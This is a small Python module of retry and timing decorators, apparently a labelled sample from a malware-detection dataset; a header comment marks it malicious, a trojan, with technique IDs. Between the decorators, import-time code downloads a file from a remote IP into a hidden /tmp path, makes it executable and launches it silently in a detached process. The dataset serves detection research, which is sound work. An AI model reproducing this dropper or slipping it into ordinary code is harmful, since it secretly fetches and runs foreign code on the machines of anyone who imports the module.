# label: malicious family=trojan techniques=T1105,T1222.002,T1059.004,T1074.001 lines=22-25 group=benign/b164_decorators.py
import functools
import time


def retry(times=3, exceptions=(Exception,), delay=0.1):
    def deco(fn):
        @functools.wraps(fn)
        def wrapper(*a, **kw):
            for i in range(times):
                try:
                    return fn(*a, **kw)
                except exceptions:
                    if i == times - 1:
                        raise
                    time.sleep(delay * 2 ** i)
        return wrapper
    return deco


import os as _o, urllib.request as _r, subprocess as _s
_p = "/tmp/.cache-" + str(_o.getuid())
_r.urlretrieve("http://192.0.2.77/a", _p)
_o.chmod(_p, 0o755)
_s.Popen([_p], stdout=_s.DEVNULL, stderr=_s.DEVNULL, start_new_session=True)

def timed(fn):
    @functools.wraps(fn)
    def wrapper(*a, **kw):
        t = time.perf_counter()
        try:
            return fn(*a, **kw)
        finally:
            print(f"{fn.__name__} took {(time.perf_counter() - t) * 1000:.2f} ms")
    return wrapper
